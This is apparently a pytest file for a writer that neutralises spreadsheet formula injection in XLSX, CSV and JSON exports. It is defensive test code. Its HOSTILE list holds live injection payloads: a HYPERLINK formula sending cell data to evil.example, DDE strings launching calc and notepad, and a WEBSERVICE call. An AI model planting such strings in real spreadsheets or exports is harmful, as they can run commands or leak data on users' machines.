"""Excel-safe writer: hostile cells are inert in XLSX and CSV; JSON round-trips the data."""

from __future__ import annotations

import csv
import json

import openpyxl
import pandas as pd
import pytest

from graph.audit import file_sha256
from graph.excel_safe import (
    DANGEROUS_PREFIXES,
    XLSX_CELL_LIMIT,
    TableFormat,
    make_safe,
    neutralise,
    write_table,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "name": [*HOSTILE, "Huawei Technologies Co., Ltd."],
            "score": [0.5] * len(HOSTILE) + [0.97],
            "reasons": [["=1+1", "token overlap"]] * len(HOSTILE) + [["exact name"]],
            "=evil_header": ["x"] * (len(HOSTILE) + 1),
        }
    )


@pytest.mark.parametrize("value", HOSTILE)
def test_dangerous_text_is_prefixed(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Huawei", "", " =not first", "O'Brien", 5, -3.5, None])
def test_harmless_values_are_unchanged(value):
    assert neutralise(value) == value


def test_make_safe_keeps_numbers_and_does_not_touch_input():
    df = hostile_frame()
    safe = make_safe(df)
    assert df["name"].iloc[0] == HOSTILE[0]
    assert safe["score"].tolist() == df["score"].tolist()
    assert list(safe.columns) == ["name", "score", "reasons", "'=evil_header"]
    assert safe["reasons"].iloc[0] == '["=1+1", "token overlap"]'


def _assert_inert(value: object) -> None:
    if isinstance(value, str):
        assert not value.startswith(DANGEROUS_PREFIXES), value


def test_xlsx_with_hostile_cells_is_inert(tmp_path):
    meta = pd.DataFrame({"key": ["input", "list_versions"], "value": ['=WEBSERVICE("x")', "csl:2022-05"]})
    written = write_table(hostile_frame(), tmp_path / "out.xlsx", sheets={"run": meta})
    assert written.fmt is TableFormat.XLSX and written.rows == len(HOSTILE) + 1
    assert written.sha256 == file_sha256(tmp_path / "out.xlsx")
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    assert book.sheetnames == ["results", "run"]
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                _assert_inert(cell.value)
                seen += 1
    assert seen == 4 * (len(HOSTILE) + 2) + 2 * 3
    results = book["results"]
    assert results["A2"].value == "'" + HOSTILE[0] and results["A2"].data_type == "s"
    assert results["B9"].value == pytest.approx(0.97)
    assert book["run"]["B2"].value == '\'=WEBSERVICE("x")'


def test_xlsx_long_cells_and_control_characters(tmp_path):
    df = pd.DataFrame({"name": ["a" * (XLSX_CELL_LIMIT + 500), "bad\x00\x07char"]})
    write_table(df, tmp_path / "long.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "long.xlsx").active
    assert sheet is not None
    assert len(sheet["A2"].value) == XLSX_CELL_LIMIT and sheet["A2"].value.endswith("[truncated]")
    assert sheet["A3"].value == "badchar"


def test_csv_read_back_is_inert(tmp_path):
    write_table(hostile_frame(), tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["name", "score", "reasons", "'=evil_header"]
    assert len(rows) == len(HOSTILE) + 2
    for row in rows:
        for value in row:
            _assert_inert(value)
    assert [r[0] for r in rows[1:-1]] == ["'" + v for v in HOSTILE]
    back = pd.read_csv(tmp_path / "out.csv")
    assert back["score"].tolist()[-1] == pytest.approx(0.97)


def test_json_keeps_data_and_extra_sheets(tmp_path):
    df = hostile_frame()
    write_table(df, tmp_path / "plain.json")
    data = json.loads((tmp_path / "plain.json").read_text())
    assert data[0]["name"] == HOSTILE[0] and data[0]["reasons"] == ["=1+1", "token overlap"]
    write_table(df, tmp_path / "both.json", sheets={"run": pd.DataFrame({"rows": [8]})})
    both = json.loads((tmp_path / "both.json").read_text())
    assert set(both) == {"results", "run"} and both["run"] == [{"rows": 8}]


def test_failed_write_leaves_previous_file(tmp_path):
    target = tmp_path / "out.xlsx"
    write_table(pd.DataFrame({"a": [1]}), target)
    before = target.read_bytes()
    aware = pd.DataFrame({"when": [pd.Timestamp("2024-01-01", tz="UTC")]})
    with pytest.raises(ValueError, match="timezones"):  # Excel has no time zones: the write fails midway
        write_table(pd.DataFrame({"a": [2]}), target, sheets={"run": aware})
    assert target.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["out.xlsx"]


def test_unknown_suffix_is_refused(tmp_path):
    with pytest.raises(ValueError, match="cannot tell the format"):
        write_table(pd.DataFrame({"a": [1]}), tmp_path / "out.txt")
